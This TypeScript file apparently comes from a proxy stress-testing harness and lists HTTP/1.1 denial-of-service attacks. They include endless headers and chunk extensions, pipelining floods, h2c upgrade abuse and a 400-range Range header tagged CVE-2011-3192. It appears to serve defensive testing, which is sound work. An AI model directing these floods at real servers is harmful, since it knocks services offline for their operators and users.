import { type Attack } from '../attack';

const HEAD = 'GET / HTTP/1.1\r\nhost: a\r\n';

/** Sends one piece after the other, again on a new connection when the proxy has ended the last. */
function repeat(name: string, first: string, piece: string | ((i: number) => string), known = ''): Attack {
  const text = typeof piece === 'string' ? () => piece : piece;
  return {
    name,
    known,
    target: 'h1',
    run: (attacker) =>
      attacker.flood(
        () => attacker.connect(),
        (_client, i) => Buffer.from((i === 0 ? first : '') + text(i), 'latin1'),
      ),
  };
}

const CHUNKED = 'POST / HTTP/1.1\r\nhost: a\r\ntransfer-encoding: chunked\r\n\r\n';

/** What HTTP/1.1 lets a client repeat. */
export const HTTP1: readonly Attack[] = [
  repeat('a head without end', HEAD, (i) => `x-${i}: ${'v'.repeat(200)}\r\n`),
  repeat('fields beyond count', HEAD, (i) => `x${i}:\r\n`),
  repeat('a target without end', 'GET /', 'a'.repeat(1000)),
  repeat('chunk extensions', CHUNKED, () => `1;${'e'.repeat(500)}\r\nx\r\n`),
  repeat('a chunk extension without end', `${CHUNKED}1;`, 'e'.repeat(500)),
  repeat('chunks of one byte', CHUNKED, '1\r\nx\r\n'.repeat(100), 'CVE-2020-12603'),
  repeat('trailers without end', `${CHUNKED}0\r\n`, (i) => `t${i}: v\r\n`),
  repeat('empty lines', '', '\r\n'.repeat(500)),
  repeat('pipelining', '', `${HEAD}\r\n`.repeat(10)),
  {
    name: 'pipelining, answers unread',
    known: '',
    target: 'h1',
    run: (attacker) =>
      attacker.flood(
        async () => {
          const client = await attacker.connect();
          client.stall();
          return client;
        },
        () => Buffer.from('GET /big HTTP/1.1\r\nhost: a\r\n\r\n'.repeat(10), 'latin1'),
      ),
  },
  repeat('refused heads', '', 'GET / HTTP/9.9\r\n\r\n'),
  repeat('ranges', '', `${HEAD}range: bytes=${Array.from({ length: 400 }, (_, i) => `${i}-`).join(',')}\r\n\r\n`, 'CVE-2011-3192'),
  repeat('upgrades to h2c', '', `${HEAD}connection: upgrade, http2-settings\r\nupgrade: h2c\r\nhttp2-settings: AAMAAABkAAQAAP__\r\n\r\n`),
];
